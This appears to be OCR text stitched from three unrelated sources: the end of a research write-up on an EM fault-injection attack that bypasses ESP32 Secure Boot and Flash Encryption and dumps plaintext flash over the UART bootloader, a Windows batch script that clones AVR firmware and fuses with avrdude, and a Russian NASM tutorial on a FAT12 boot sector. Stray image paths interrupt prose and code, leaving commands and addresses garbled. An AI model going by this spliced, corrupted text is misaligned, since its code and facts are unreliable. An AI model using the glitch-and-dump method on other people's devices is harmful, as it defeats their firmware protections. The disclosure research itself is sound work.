One explanation is that the glitch may corrupt both operands of the ldr instruction in order to load a value from the destination into the a0. This is similar as the previously described attack where we control PC indirectly by controllingthe source data.

Moreover, it’s a possibility that the ROM code implements functionality that facilitates this attack. In other words, we may execute valid code within the ROM due to our glitch that causes the value from SRAM to be loaded into the PC register.

More thorough investigation is required in order to determine what exactly allows us to perform this attack. However, from an attacker’s perspective, it’s sufficient to realize how to get control of PC in order to build the exploit.

Extracting plain-text data

Even though we have control of the PC register, we are not yet able to extract the plain-text data from the flash. We decided to leverage the UART bootloader functionality to do so.

We decided to jump directly to the UART bootloader while the chip is in Normal boot mode. For this attack we overwrite the addi instructions in the code that we load into SRAM with address pointers to the start of the UART bootloader (0x0x40007a19).

The UART bootloader prints a string on the serial interface which is shown below. We can use this to identify if we are successful or not.

waiting for download\n"

Once we observe a successful experiment, we can simply use the to issue a read_mem command in order to access plain-text flash data. The command below reads 4 bytes from the address where the external flash is mapped (0x3f400000). --no-stub --before no_reset --after no_reset read_mem 0x3f400000

Unfortunately, this did not work. For some reason the processor is replying with 0xbad00bad which is an indication we read from an unmapped page.v2.8
Serial port COM8
Detecting chip type... ESP32
Chip is ESP32D0WDQ6 (revision 1)
Crystal is 40MHz
MAC: 24:6f:28:24:75:08
Enabling default SPI flash mode...
0x3f400000 = 0xbad00bad
Staying in bootloader.

We noticed that there is quite some configuration done at the start of the UART bootloader. We assume it may affect the MMU as well.

Just to try something different, we decided to jump directly to the command handler of the UART bootloader itself (0x40007a4e). Once in the hander, we can send a raw read_mem command directly on the serial interface which is shown below.


Unfortunately, by jumping directly to the handler, the string that’s printed (i.e. waiting for download\n") is not printed anymore. Therefore, we cannot easily identify successful experiments. Therefore, we decided to simply always send the command, regardless if we are successful or not. We used a very short serial interface timeout in order to minimize the overhead of almost always hitting the timeout.After a short while, we observed the first successful experiments!


In this post we described an attack on the ESP32 where we bypass its Secure Boot and Flash Encryption features using a single EM glitch. Moreover, we leveraged the vulnerability exploited by this attack to extract the plain-text data from the encrypted flash.

We can use FIRM to break down the attack in multiple comprehensible stages.

Interestingly, two weaknesses of the ESP32 facilitated this attack. First, the UART bootloader cannot be disabled and is always accessible. Second, the data loaded in SRAM is persistent across warm resets and can therefore be filled with arbitrary data using UART bootloader.

Espressif indicated in their advisory related to thisattack that newer versions of the ESP32 include functionality to completely disable this feature.

Final thoughts

All standard embedded technologies are vulnerable to Fault Injection attacks. Therefore, it’s not surprising at all that theESP32 is vulnerable as well. These type of chips are simply not made to be resilient against these type of attacks. However, and this is important, this does not mean that these attacks do not impose a risk.

Our research has shown that leveraging chip-level weaknesses for Fault Injection attack is very effective. We have not seen many public examples yet as most attack still focus on traditional approaches where the focus is mostly on bypassing just a check.

We believe the full potential of Fault Injection attacks is still unexplored. Most research until recently focused mostly on the injection method itself (i.e. ActivateInject and Glitch) compared to what can be accomplished dueto a vulnerable chip (i.e. FaultExploit and Goal).

We are confident that creative usage of new and undefined fault models, will give rise to unforeseen attacks, where exciting exploitation strategies are used, for a wide variety of different goals.

AVR(Arduino) Firmware Duplicator

Windows script to make an exact copy of AVR (Arduino) firmware including the bootloader, user program, fuses and EEPROM.

Things used in this project

Hardware components: Atmel ATmega328P-PU




Plain text

prompt $G
CD C:\Program Files\Arduino_105\hardware\tools\avr\bin
ECHO CTRL+C to abort OR PRESS Any key to begin copy...
pause >nul
ECHO Creating hexadecimal binary files of ATmel328P contents...
>stdout.log 2>&1 (
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U flash:r:%temp%\backup_flash.hex:i
ECHO flash has been sAVED to backup_flash.hex
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U eeprom:r:%temp%\backup_eeprom.hex:i
ECHO eeprom has been SAVED to backup_eerpom.hex
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U hfuse:r:%temp%\backup_hfuse.hex:i
ECHO hfuse has been SAVED to backup_hfuse.hexavrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U lfuse:r:%temp%\backup_lfuse.hex:i
ECHO lfuse has been SAVED to backup_lfuse.hex
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U efuse:r:%temp%\backup_efuse.hex:i
ECHO efuse has been SAVED to backup_efuse.hex
ECHO Hexadecimal files created.
CD C:\Program Files\Arduino_105\hardware\tools\avr\bin
ECHO PRESS Any key to write new chip...
pause >nul
REM Note that the path cannot contain the drive letter "C:" so you cannot use %temp% as previously
REM Reference: Bug report #39230
>>stdout.log 2>&1 (
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U flash:w:\Users\owner\AppData\Local\Temp\backup_flash.hexECHO backup_flash.hex WRITTEN
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U eeprom:w:\Users\owner\AppData\Local\Temp\backup_eeprom.hex
ECHO backup_eeprom.hex WRITTEN
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U hfuse:w:\Users\owner\AppData\Local\Temp\backup_hfuse.hex
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -U lfuse:w:\Users\owner\AppData\Local\Temp\backup_lfuse.hex
avrdude -c arduino -P com4 -p ATMEGA328P -b 19200 -Uefuse:w:\Users\owner\AppData\Local\Temp\backup_efuse.hex
ECHO efuse WRITTEN ... this may change from 05 to 07 with BOD being disabled by AVRDUDE
ECHO Chip duplication and verification is complete.
ECHO Starting Notepad editor to display log file.
start notepad C:\Program Files\Arduino_105\hardware\tools\avr\bin\stdout.log
ECHO Press Any key to close this window...
pause >nul


Пишем свой загрузочный сектор

Мы будем писать загрузочный сектор для трехдюймовой дискеты с файловой системой FAT12. После окончания начальной загрузки программа POST находит активное устройство и загружает с него короткую программу загрузки ОС — загрузочный сектор. Загрузочный сектор это первый физический сектор устройства, в данном случае дискеты и его размет равен всегоничего 512 байт. С помощью этих 512 байт кода мы должны найти основную часть загрузчика операционной системы, загрузить его в память и передать ему управление. Заголовок файловой системы FAT находится в первом секторе дискеты, благодаря чему этот заголовок, содержащий всю необходимую информацию о файловой системе, загружается вместе нашим загрузчиком. Наш загрузочный сектор будет искать вкорневом каталоге некоторый файл — загрузчик, загрузит его в память и передаст ему управление на его начало. А загрузчик уже сам разберется, что емуделать дальше. Я использую NASM, т.к. считаю, что он больше подходит для наших целей.
И так, приступим. Как я уже говорил, в начале нашегозагрузочного сектора располагается заголовок FAT, опишем его:
; Общая часть для всех типов FAT
jmp short BootStart ; Переходим на код загрузчика
BS_OEMName db ‘*-v4VIHC’ ; 8 байт, что было на моей дискете, то и написал
BPB_BytsPerSec dw 0x200 ; Байт на сектор
BPB_SecPerClus db 1 ; Секторов накластер
BPB_RsvdSecCnt dw 1 ; Число резервных секторов
BPB_NumFATs db 2 ; Количектво копий FAT
BPB_RootEntCnt dw 224 ; Элементов в корневом катологе (max)
BPB_TotSec16 dw 2880 ; Всего секторов или 0
BPB_Media db 0xF0 ; код типа устройства
BPB_FATsz16 dw 9 ; Секторов на элемент таблицы FAT
BPB_SecPerTrk dw 18 ; Секторов на дорожку
BPB_NumHeads dw 2 ; Число головок
BPB_HiddSec dd 0 ; Скрытых секторов
BPB_TotSec32 dd 0 ; Всего секторов или 0
; Заголовок для FAT12 и FAT16BS_DrvNum db 0 ; Номер дика для прерывания int 0x13
BS_ResNT db 0 ; Зарезервировано для Windows NT
BS_BootSig db 29h ; Сигнатура расширения
BS_VolID dd2a876CE1h ; Серийный номер тома
BS_VolLab db ‘X boot disk’ ; 11 байт, метка тома
BS_FilSysType db ‘FAT12 ‘ ; 8 байт, тип ФС
; Структура элемента каталога
struc DirItem
DIR_Name: resb 11
DIR_Attr: resb 1
DIR_ResNT: resb 1
DIR_CrtTimeTenth resb 1
DIR_CrtTime: resw 1
DIR_CrtDate: resw 1
DIR_LstAccDate: resw 1
DIR_FstClusHi: resw 1
DIR_WrtTime: resw 1
DIR_WrtDate: resw 1
DIR_FstClusLow: resw 1
DIR_FileSize: resd 1
endstruc ;DirItem

Большинство полей мы использовать не будем, и так мало места для полета. Загрузчик BIOS передает нам управление на начало загрузочного сектора, т.е. на BS_jmpBoot, поэтому в начале заголовка FAT на отводится 3 байта для короткой или длинной инструкции jmp. Мы в данном случае использовали короткую, указав модификатор short, и в третьем байте просто разместили однобайтовую инструкцию nop.

По инструкции jmp short BootStart мы переходим на наш код. Проведемнебольшую инициализацию:
; Наши не инициализированные переменные
; При инициализации они затрут не нужные нам
; поля заголовка FAT: BS_jmpBoot и BS_OEMName
struc NotInitData
SysSize: resd 1 ; Размер системной области FAT
fails: resd 1 ; Число неудачных попыток при чтении
fat: resd 1 ; Номер загруженного сектора с элементами FAT
endstruc ;NotInitData
; По этому адресу мы будем загружать загрузчик
%define SETUP_ADDR 0x1000
; А по этому адресу нас должны были загрузить%define BOOT_ADDR 0x7C00
%define BUF 0x500
xor cx, cx
mov ss, cx
mov es, cx
mov ds, cx
mov sp, BOOT_ADDR
mov bp, sp
; Сообщим о том что мы загружаемся
mov si, BOOT_ADDR + mLoadingcall print

Все сегментные регистры настраиваем на начало физической памяти. Вершину стека настраиваем на начало нашего сектора, стек растет вниз (т.е. в сторону младших адресов), так что проблем быть не должно. Туда же указывает регистр bp — нам нужно обращаться к полям заголовка FAT и паре наших переменных. Мы используем базовую адресацию со смещением, для чего используем регистр bp т.к. в этом случае можно использовать однобайтовые смещения, вместо двухбайтовых адресов, что позволяет сократить код. Процедуру print, выводящую сообщение на экран, рассмотрим позже.

Теперь нам нужно вычислить номера первых секторов корневого каталога и данных файлов.

mov al, [byte bp+BPB_NumFATs]mul word [byte bp+BPB_FATsz16]
add ax, [byte bp+BPB_HiddSec]
adc dx, [byte bp+BPB_HiddSec+2]
add ax, [byte bp+BPB_RsvdSecCnt]
adc dx, cx
mov si, [byte bp+BPB_RootEntCnt]
; dx:ax — Номер первого сектора корневого каталога
